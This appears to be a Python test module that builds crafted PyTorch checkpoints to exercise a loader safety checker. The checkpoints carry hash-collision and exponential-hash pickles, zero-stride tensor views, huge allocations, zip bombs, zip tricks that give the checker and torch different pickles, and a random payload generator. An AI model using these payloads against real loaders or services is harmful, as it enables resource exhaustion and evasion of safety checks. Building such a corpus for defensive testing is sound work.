"""Small checkpoints that make a loader do work or allocate memory out of all proportion to
their size (issue 19, item 4). Each is a few bytes to about a megabyte; loaded naively, each
costs minutes to hours, or gigabytes. Assembled opcode by opcode, as ``checkpoint_payloads``."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

from checkpoint_payloads import (
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    F8,
    FALSE,
    MARK,
    NONE,
    PROTO,
    REFUSED_FIRST,
    SETITEM,
    STOP,
    TRUE,
    b_,
    call,
    dict1,
    g,
    i4,
    long_,
    np_array,
    s,
    tup,
)

APPEND, APPENDS, SETITEMS, BINPERSID, BUILD = b"a", b"e", b"u", b"Q", b"b"
M61 = (1 << 61) - 1  # hash(k * M61) == 0 for every int k: all such keys collide


def put(n: int) -> bytes:
    return b"r" + struct.pack("<I", n)


def get(n: int) -> bytes:
    return b"j" + struct.pack("<I", n)


def storage(key: str, numel: int, kind: str = "FloatStorage") -> bytes:
    return tup(s("storage"), g("torch", kind), s(key), s("cpu"), i4(numel)) + BINPERSID


def view(size: int, key: str = "0") -> bytes:
    """A float tensor of ``size`` elements over a storage of one: stride 0."""
    hooks = call(g("collections", "OrderedDict"), EMPTY_TUPLE)
    return call(
        g("torch._utils", "_rebuild_tensor_v2"), storage(key, 1), i4(0), tup(long_(size)), tup(i4(0)), FALSE, hooks
    )


def big_tuple(n: int, slot: int) -> bytes:
    """A tuple of n small ints, kept in memo ``slot``."""
    return MARK + b"K\x07" * n + b"t" + put(slot)


# torch's unpickler has no POP: every value a payload makes stays on the stack, so each helper
# below leaves exactly one (a tuple of what it made).
def tuple_chain(depth: int) -> bytes:
    """(x, t1, ..., t_depth) where t_k = (t_k-1, t_k-1): hashing it takes 2**depth steps."""
    return MARK + s("x") + put(0) + (get(0) + get(0) + b"\x86" + put(0)) * depth + b"t"


def list_chain(depth: int) -> bytes:
    """[x, x] where x is the previous list, the last of ``depth``: 2**depth leaves."""
    levels = EMPTY_LIST + b"G" + struct.pack(">d", 1.0) + APPEND + put(0)
    levels += (EMPTY_LIST + MARK + get(0) + get(0) + APPENDS + put(0)) * depth
    return MARK + levels + b"t"


def with_made(made: bytes, value: bytes) -> bytes:
    """(made, value): ``made`` (one value) put where ``value`` can refer to it through the memo."""
    return made + value + b"\x86"


def bodies() -> dict[str, tuple[str, bytes]]:
    """name -> (what makes it costly, the value stored under "payload")."""
    collide = 60_000
    refs = 100_000
    return {
        "dict_key_tuple_dag": (
            "a dict key whose hash takes 2**60 steps",
            EMPTY_DICT + tuple_chain(60) + NONE + SETITEM,
        ),
        "set_of_tuple_dag": (
            "set() of a tuple whose hash takes 2**60 steps",
            call(g("builtins", "set"), EMPTY_LIST + tuple_chain(60) + APPEND),
        ),
        "dict_colliding_int_keys": (
            "dict keys that all share one hash",
            EMPTY_DICT + MARK + b"".join(long_(k * M61) + NONE for k in range(1, collide)) + SETITEMS,
        ),
        "set_of_memo_references": (
            "set() of one big tuple referenced 100,000 times",
            call(g("builtins", "set"), EMPTY_LIST + MARK + big_tuple(50_000, 1) + get(1) * refs + APPENDS),
        ),
        "counter_of_memo_references": (
            "Counter() of one big tuple referenced 100,000 times",
            call(g("collections", "Counter"), EMPTY_LIST + MARK + big_tuple(50_000, 1) + get(1) * refs + APPENDS),
        ),
        "ordereddict_colliding_keys": (
            "OrderedDict() of pairs whose keys share one hash",
            call(
                g("collections", "OrderedDict"),
                EMPTY_LIST + MARK + b"".join(tup(long_(k * M61), NONE) for k in range(1, collide)) + APPENDS,
            ),
        ),
        "build_same_big_state_repeatedly": (
            "setting a 50,000-key state 50,000 times",
            EMPTY_LIST
            + MARK
            + call(g("collections", "OrderedDict"), EMPTY_TUPLE)
            + put(2)
            + EMPTY_DICT
            + MARK
            + b"".join(s(f"k{k}") + NONE for k in range(50_000))
            + SETITEMS
            + put(3)
            + (get(2) + get(3) + BUILD) * 50_000
            + APPENDS,
        ),
        "codecs_hex_chain": (
            "_codecs.encode(..., 'hex') nested: the size doubles at each level",
            _hex_chain(40),
        ),
        "codecs_punycode": (
            "_codecs.encode(..., 'punycode'): time quadratic in the text",
            call(g("_codecs", "encode"), s("".join(chr(0x4E00 + k) for k in range(30_000))), s("punycode")),
        ),
        "zero_stride_tensor_in_set": (
            "set() of a tensor of 2**23 rows over one element",
            call(g("builtins", "set"), view(1 << 23)),
        ),
        "zero_stride_tensor_in_size": (
            "torch.Size() of a tensor of 2**23 rows",
            call(g("torch", "Size"), view(1 << 23)),
        ),
        "zero_stride_tensor_copied": (
            "a float64 copy of a 2**31-element view of one element",
            call(
                g("torch._utils", "_rebuild_device_tensor_from_cpu_tensor"),
                view(1 << 31),
                g("torch", "float64"),
                s("cpu"),
                FALSE,
            ),
        ),
        "zero_stride_tensor_alone": ("a tensor view of 2**50 elements over one", view(1 << 50)),
        "tensor_class_allocates": ("torch.FloatTensor(2**34)", call(g("torch", "FloatTensor"), long_(1 << 34))),
        "untyped_storage_allocates": (
            "UntypedStorage(2**36)",
            call(g("torch.storage", "UntypedStorage"), long_(1 << 36)),
        ),
        "qtensor_allocates": (
            "a quantized tensor of 2**34 elements",
            call(
                g("torch._utils", "_rebuild_qtensor"),
                storage("q", 1, "QUInt8Storage"),
                i4(0),
                tup(long_(1 << 34)),
                tup(i4(1)),
                tup(g("torch", "per_tensor_affine"), b"G" + struct.pack(">d", 1.0), i4(0)),
                FALSE,
                call(g("collections", "OrderedDict"), EMPTY_TUPLE),
            ),
        ),
        "tensor_from_nested_list_dag": (
            "torch.Tensor() of a list chain of 2**28 leaves",
            with_made(list_chain(28), call(g("torch", "Tensor"), get(0))),
        ),
        "bytearray_4_gib": ("bytearray(2**32)", call(g("builtins", "bytearray"), long_(1 << 32))),
        "empty_array_2_40_rows_in_size": (
            "torch.Size() of an empty numpy array of 2**40 rows",
            call(g("torch", "Size"), np_array((1 << 40, 0), F8, b"")),
        ),
        # issue 28, finding 1: harmless-looking opcodes that pushed the old check past its opcode
        # bound (a failed check let the file through), then what the check is there to stop.
        "bound_exhausting_prefix_then_zero_stride_set": (
            "one memoised 270 KB string re-encoded 1,000 times, then set() of a 2**22-row view",
            MARK + encode_prefix(270_000, 1_000) + call(g("builtins", "set"), view(1 << 22)) + b"t",
        ),
        # finding 2: one memoised list of 50,000 members given to set() 60,000 times (1 MB)
        "set_of_one_memoised_list_reused": (
            "set() of one memoised 50,000-member list, 60,000 times",
            reused_set(50_000, 60_000),
        ),
        # finding 3: BUILD states made of one tuple of tuples (a walk cubic in the file's size)
        "nested_build_states": (
            "250 OrderedDict states of a 1,000 x 1,000 tuple of tuples, behind a global stock refuses",
            nested_states(1_000, 250),
        ),
    }


def encode_prefix(length: int, times: int) -> bytes:
    """A string of ``length`` in memo slot 1, encoded as latin1 ``times`` times (each result
    stays: the unpickler has no POP)."""
    encode = g("_codecs", "encode") + put(2)
    return s("x" * length) + put(1) + encode + b"".join(get(2) + get(1) + s("latin1") + b"\x86R" for _ in range(times))


def reused_set(members: int, calls: int) -> bytes:
    listed = EMPTY_LIST + MARK + b"".join(i4(k) for k in range(members)) + APPENDS + put(1)
    return MARK + listed + g("builtins", "set") + put(2) + (get(2) + get(1) + b"\x85R") * calls + b"t"


def nested_states(k: int, builds: int) -> bytes:
    inner = MARK + b"".join(b"K" + bytes([n % 256]) for n in range(k)) + b"t" + put(1)
    outer = MARK + get(1) * k + b"t" + put(2)
    target = call(g("collections", "OrderedDict"), EMPTY_TUPLE) + put(3)
    return MARK + REFUSED_FIRST + inner + outer + target + (get(2) + get(2) + b"\x86" + BUILD) * builds + b"t"


def _hex_chain(depth: int) -> bytes:
    body = b_(b"x" * 1024)
    for _ in range(depth):
        body = call(g("_codecs", "encode"), body, s("hex"))
    return body


def pickle_for(body: bytes) -> bytes:
    """data.pkl of a checkpoint {"state_dict": {}, "payload": body}."""
    return PROTO + dict1("state_dict", EMPTY_DICT) + s("payload") + body + SETITEM + STOP


def storages_pickle(numel: int, entries: int) -> bytes:
    """{"t0": tensor of data/0, ..., "t<k-1>": tensor of data/<k-1>}, each ``numel`` floats."""
    items = b"".join(
        s(f"t{k}")
        + call(
            g("torch._utils", "_rebuild_tensor_v2"),
            storage(str(k), numel),
            i4(0),
            tup(long_(numel)),
            tup(i4(1)),
            FALSE,
            call(g("collections", "OrderedDict"), EMPTY_TUPLE),
        )
        for k in range(entries)
    )
    return PROTO + EMPTY_DICT + MARK + items + SETITEMS + STOP


def write_container_attacks(tmp: Path) -> dict[str, tuple[str, Path]]:
    """Zip containers torch's reader (miniz) reads otherwise than the check's (zipfile), or that
    make torch inflate far more than the file holds (issue 28, the zip-level findings). The
    harmful pickle is the corpus's set() over a zero-stride view."""
    import zip_crafting

    evil = pickle_for(bodies()["zero_stride_tensor_in_set"][1])
    harmless = pickle_for(NONE)
    return {
        "zip_case_twins": (
            "archive/data.pkl harmless, archive/DATA.PKL the set() of a zero-stride view",
            zip_crafting.case_twins(tmp / "zip_case_twins.pth", harmless, evil),
        ),
        "zip_two_directories": (
            "two central directories: zipfile reads a harmless archive, miniz the harmful one",
            zip_crafting.two_directories(tmp / "zip_two_directories.pth", harmless, evil),
        ),
        "zip_shared_deflated_record": (
            "one deflated record of 256 MiB zeros under 8 names: 2 GiB of tensors from 256 KB",
            zip_crafting.shared_deflated_record(tmp / "zip_shared_deflated_record.pth", storages_pickle, 256 << 20, 8),
        ),
        "zip_deflated_pickle": (
            "a deflated data.pkl of 16 MiB harmless opcodes in 17 KB",
            zip_crafting.deflated_pickle(
                tmp / "zip_deflated_pickle.pth", PROTO + EMPTY_DICT + b"NNs" * ((16 << 20) // 3) + STOP
            ),
        ),
    }


# --- sizes the cost model once priced as nothing, the legacy format's fifth pickle (issue 28) ----


def shaped_view(size: bytes, stride: bytes) -> bytes:
    """_rebuild_tensor_v2 over a storage of one float, with ``size`` and ``stride`` as given."""
    hooks = call(g("collections", "OrderedDict"), EMPTY_TUPLE)
    return call(g("torch._utils", "_rebuild_tensor_v2"), storage("0", 1), i4(0), size, stride, FALSE, hooks)


def torch_size(*dims: bytes) -> bytes:
    return call(g("torch", "Size"), tup(*dims))


def unpriced_bodies(n: int = 1 << 23) -> dict[str, tuple[str, bytes]]:
    """Payloads whose size or arguments the cost model priced as nothing: a size holding a bool
    (an int to torch), a torch.Size(...) size, a legacy tensor class given a torch.Size or bools,
    REDUCE arguments given as a list, set() of a set() of one memoised list."""
    return {
        "view_bool_dim_in_set": (
            f"set() of a view of size ({n:,}, True), stride (0, 0)",
            call(g("builtins", "set"), shaped_view(tup(long_(n), TRUE), tup(i4(0), i4(0)))),
        ),
        "view_torch_size_in_set": (
            f"set() of a view of size torch.Size(({n:,},)), stride (0,)",
            call(g("builtins", "set"), shaped_view(torch_size(long_(n)), tup(i4(0)))),
        ),
        "float_tensor_of_torch_size": (
            f"torch.FloatTensor(torch.Size(({n << 7:,},)))",
            call(g("torch", "FloatTensor"), torch_size(long_(n << 7))),
        ),
        "float_tensor_of_bool_dims": (
            f"torch.FloatTensor({n << 7:,}, True)",
            call(g("torch", "FloatTensor"), long_(n << 7), TRUE),
        ),
        "set_called_with_a_list": (
            "set(*[a zero-stride view]): REDUCE arguments given as a list",
            g("builtins", "set") + EMPTY_LIST + view(n) + APPEND + b"R",
        ),
        "set_of_a_memoised_set_reused": (
            "set() of one memoised set() of a 20,000-member list, 20,000 times",
            MARK
            + call(g("builtins", "set"), EMPTY_LIST + MARK + b"".join(i4(k) for k in range(20_000)) + APPENDS)
            + put(1)
            + g("builtins", "set")
            + put(2)
            + (get(2) + get(1) + b"\x85R") * 20_000
            + b"t",
        ),
    }


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def write_legacy(path: Path, fifth: bytes, obj: bytes | None = None) -> Path:
    """torch's legacy (non-zip) format: magic number, protocol version, sys info, the object, then
    ``fifth`` where torch.save writes the storage keys (torch unpickles it weights_only too)."""
    import pickle

    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(x, protocol=2) for x in (LEGACY_MAGIC, 1001, sys_info))
    path.write_bytes(head + (obj or PROTO + dict1("state_dict", EMPTY_DICT) + STOP) + fifth)
    return path


def legacy_fifth_pickles() -> dict[str, tuple[str, bytes]]:
    return {
        "legacy_storage_keys_bytearray": (
            "bytearray(3 GiB) as the legacy format's storage keys",
            PROTO + call(g("builtins", "bytearray"), long_(3 << 30)) + STOP,
        ),
        "legacy_storage_keys_tuple_dag": (
            "a dict key whose hash takes 2**34 steps, as the legacy format's storage keys",
            PROTO + EMPTY_DICT + tuple_chain(34) + NONE + SETITEM + STOP,
        ),
    }


def build_unpriced(tmp: Path) -> dict[str, tuple[str, Path]]:
    out = {name: (what, write(tmp / f"{name}.pth", body)) for name, (what, body) in unpriced_bodies().items()}
    for name, (what, fifth) in legacy_fifth_pickles().items():
        out[name] = (what, write_legacy(tmp / f"{name}.pt", fifth))
    return out


def write(path: Path, body: bytes, records: dict[str, bytes] | None = None) -> Path:
    """torch.save's layout, with storage records "0" (one float) and "q" (one quint8) that the
    views above use."""
    pkl = pickle_for(body)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pkl)
        archive.writestr("archive/byteorder", "little")
        for key, data in (records if records is not None else {"0": b"\0" * 4, "q": b"\0"}).items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/.data/serialization_id", "0" * 40)
    return path


def write_zip_costs(tmp: Path) -> dict[str, tuple[str, Path]]:
    """Archives whose directory or records cost zipfile out of proportion."""
    pkl = PROTO + EMPTY_DICT + s("x") + REFUSED_FIRST + SETITEM + STOP
    out = {}
    # bzip2: zipfile inflates a record's whole compressed chunk in one call, whatever was asked.
    path = tmp / "zip_bzip2_record.pth"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pkl, compress_type=zipfile.ZIP_STORED)
        archive.writestr("archive/data/0", b"\0" * (256 << 20), compress_type=zipfile.ZIP_BZIP2)
        archive.writestr("archive/version", "3\n")
    out["zip_bzip2_record"] = ("a bzip2 record of 256 MiB zeros", path)
    # Extra fields of 16,000 empty sub-records: CPython's zipfile re-slices the field per sub-record.
    path = tmp / "zip_huge_extra_fields.pth"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pkl)
        archive.writestr("archive/version", "3\n")
        for k in range(150):
            info = zipfile.ZipInfo(f"archive/extra/{k}")
            info.extra = b"\x99\x99\x00\x00" * 16_000
            archive.writestr(info, b"")
    out["zip_huge_extra_fields"] = ("150 directory entries with 64 KB extra fields", path)
    return out


def build(tmp: Path) -> dict[str, tuple[str, Path]]:
    out = {name: (what, write(tmp / f"{name}.pth", body)) for name, (what, body) in bodies().items()}
    out.update(write_zip_costs(tmp))
    out.update(write_container_attacks(tmp))
    return out


# --- random pickles over the vocabulary the allowlists admit (the bounded-cost property) ----------


def pickles():
    """Random values built from what torch's and mmfix's allowlists let a pickle call, shared
    through the memo as an attacker would share them (chains of tuples, one value referenced
    thousands of times, keys that collide, views, allocating constructors, codecs, one memoised
    container given to set() many times, BUILD states of shared nested tuples, and prefixes of
    harmless opcodes long enough to exhaust any bound a checker has): each a
    payload for ``write``. Built to be valid where it can, so that loads get to the costly part."""
    from hypothesis import strategies as st

    plain = st.one_of(
        st.integers(-(1 << 31), (1 << 31) - 1).map(i4),
        st.integers(1, 1 << 20).map(lambda k: long_(k * M61)),  # all hash to 0
        st.integers(0, 1 << 200).map(long_),
        st.text(max_size=40).map(s),
        st.integers(0, 200_000).map(lambda n: s("ab" * n)),
        st.floats(allow_nan=False).map(lambda x: b"G" + struct.pack(">d", x)),
        st.sampled_from([NONE, TRUE, FALSE]),
    )
    dtypes = st.sampled_from([g("torch", "float64"), g("torch", "float32"), g("torch", "int8")])
    sizes = st.sampled_from([0, 1, 7, 1 << 10, 1 << 16, 1 << 20, 1 << 24, 1 << 31, 1 << 40])
    counts = st.sampled_from([1, 2, 10, 1_000, 5_000, 20_000])

    @st.composite
    def build(draw):
        hashable: list[int] = []  # memo slots of values that can be dict keys and set members
        other: list[int] = []

        def keep(body: bytes, can_hash: bool) -> bytes:
            slot = 100 + len(hashable) + len(other)
            (hashable if can_hash else other).append(slot)
            return body + put(slot)

        def key(depth: int) -> bytes:
            kinds = (
                ["plain", "plain", "chain"] + (["get", "refs"] if hashable else []) + (["tuple"] if depth < 4 else [])
            )
            kind = draw(st.sampled_from(kinds))
            if kind == "plain":
                return draw(plain)
            if kind == "get":
                return get(draw(st.sampled_from(hashable)))
            if kind == "chain":
                return keep(tuple_chain(draw(st.integers(1, 64))), True)
            if kind == "refs":
                return keep(MARK + get(draw(st.sampled_from(hashable))) * draw(counts) + b"t", True)
            return keep(MARK + b"".join(key(depth + 1) for _ in range(draw(st.integers(0, 3)))) + b"t", True)

        def keys_list(depth: int) -> bytes:
            if hashable and draw(st.booleans()):
                members = get(draw(st.sampled_from(hashable))) * draw(counts)
            else:
                members = b"".join(key(depth + 1) for _ in range(draw(st.integers(0, 4))))
            return EMPTY_LIST + MARK + members + APPENDS

        def value(depth: int) -> bytes:
            kinds = ["key", "key"] + (["get"] if other else [])
            if depth < 4:
                kinds += ["list", "dict", "collide", "call", "call", "call", "call", "reused", "states"]
            if depth == 0:
                kinds += ["prefix"]
            kind = draw(st.sampled_from(kinds))
            if kind == "key":
                return key(depth)
            if kind == "get":
                return get(draw(st.sampled_from(other)))
            if kind == "list":
                return keep(
                    EMPTY_LIST + MARK + b"".join(value(depth + 1) for _ in range(draw(st.integers(0, 4)))) + APPENDS,
                    False,
                )
            if kind == "dict":
                pairs = b"".join(key(depth + 1) + value(depth + 1) for _ in range(draw(st.integers(0, 4))))
                return keep(EMPTY_DICT + MARK + pairs + SETITEMS, False)
            if kind == "reused":  # one memoised container given to set()/Counter() many times
                n = draw(counts)
                target = g("builtins", "set") if draw(st.booleans()) else g("collections", "Counter")
                listed = EMPTY_LIST + MARK + b"".join(i4(k) for k in range(n)) + APPENDS + put(90)
                return MARK + listed + target + put(91) + (get(91) + get(90) + b"\x85R") * draw(counts) + b"t"
            if kind == "states":  # BUILD states made of shared tuples of tuples, set many times
                k = draw(st.sampled_from([1, 10, 300, 1_000]))
                return nested_states(k, draw(st.sampled_from([1, 10, 300]))).replace(REFUSED_FIRST, b"", 1)
            if kind == "prefix":  # harmless opcodes that exhaust any bound a checker has, then a call
                if draw(st.booleans()):
                    length, times = draw(st.sampled_from([(1_000, 300), (100_000, 3_000), (270_000, 1_000)]))
                    prefix = encode_prefix(length, times)
                else:
                    prefix = NONE * draw(st.sampled_from([1_000, 200_000, 600_000]))
                then = g("builtins", "set") if draw(st.booleans()) else g("torch", "Size")
                costly = call(then, view(draw(sizes)))  # what a check is there to stop
                return MARK + prefix + (costly if draw(st.booleans()) else call_(depth + 1)) + b"t"
            if kind == "collide":
                n = draw(st.sampled_from([10, 1_000, 6_000]))
                return keep(
                    EMPTY_DICT + MARK + b"".join(long_(k * M61) + NONE for k in range(1, n + 1)) + SETITEMS, False
                )
            return keep(call_(depth), False)

        def call_(depth: int) -> bytes:
            what = draw(
                st.sampled_from(
                    [
                        "set",
                        "Counter",
                        "OrderedDict",
                        "Size",
                        "bytearray",
                        "encode",
                        "complex",
                        "Tensor",
                        "FloatTensor",
                        "UntypedStorage",
                        "view",
                        "copy",
                        "sized",
                        "array",
                        "odd_size",
                        "sized_tensor",
                        "list_args",
                        "storage",
                    ]
                )
            )
            if what in ("set", "Counter"):
                return call(g("builtins" if what == "set" else "collections", what), keys_list(depth))
            if what == "OrderedDict":
                pairs = b"".join(tup(key(depth + 1), value(depth + 1)) for _ in range(draw(st.integers(0, 4))))
                return call(g("collections", "OrderedDict"), EMPTY_LIST + MARK + pairs + APPENDS)
            if what == "Size":
                return call(g("torch", "Size"), view(draw(sizes)) if draw(st.booleans()) else tup(i4(3), i4(4)))
            if what == "bytearray":
                return call(g("builtins", "bytearray"), long_(draw(sizes)))
            if what == "encode":
                text = s("x" * draw(st.integers(0, 5_000)))
                if draw(st.booleans()):
                    return call(g("_codecs", "encode"), text, s(draw(st.sampled_from(["punycode", "utf-8", "rot13"]))))
                body = call(g("_codecs", "encode"), text, s("latin1"))
                for _ in range(draw(st.integers(0, 40))):
                    body = call(g("_codecs", "encode"), body, s("hex"))
                return body
            if what == "complex":
                return call(g("builtins", "complex"), s("1" * draw(st.integers(1, 100_000))))
            if what == "Tensor":
                return with_made(list_chain(draw(st.integers(0, 40))), call(g("torch", "Tensor"), get(0)))
            if what in ("FloatTensor", "UntypedStorage"):
                module = "torch.storage" if what == "UntypedStorage" else "torch"
                return call(g(module, what), long_(draw(sizes)))
            if what == "view":
                return view(draw(sizes))
            if what == "copy":
                return call(
                    g("torch._utils", "_rebuild_device_tensor_from_cpu_tensor"),
                    view(draw(sizes)),
                    draw(dtypes),
                    s("cpu"),
                    FALSE,
                )
            if what == "odd_size":  # sizes torch reads as ints: (n, True), torch.Size((n,))
                n = long_(draw(sizes))
                if draw(st.booleans()):
                    made = shaped_view(tup(n, TRUE), tup(i4(0), i4(0)))
                else:
                    made = shaped_view(torch_size(n), tup(i4(0)) if draw(st.booleans()) else torch_size(i4(0)))
                return call(g("builtins", "set"), made) if draw(st.booleans()) else made
            if what == "sized_tensor":  # FloatTensor(torch.Size((n,))) / FloatTensor(n, True)
                n = long_(draw(sizes))
                return call(g("torch", "FloatTensor"), *((torch_size(n),) if draw(st.booleans()) else (n, TRUE)))
            if what == "list_args":  # REDUCE arguments given as a list: set(*[x])
                return g("builtins", "set") + EMPTY_LIST + value(depth + 1) + APPEND + b"R"
            if what == "storage":  # set() of a storage iterates it element by element
                return call(g("builtins", "set"), storage("0", draw(st.sampled_from([1, 1_000, 1 << 20]))))
            if what == "sized":  # set() and torch.Size() of a view: they iterate its rows
                return call(g("builtins", "set") if draw(st.booleans()) else g("torch", "Size"), view(draw(sizes)))
            rows = draw(sizes)
            return (
                np_array((rows, 0), F8, b"")
                if draw(st.booleans())
                else np_array((rows % 64,), F8, b"\0" * 8 * (rows % 64))
            )

        return value(0)

    return build()
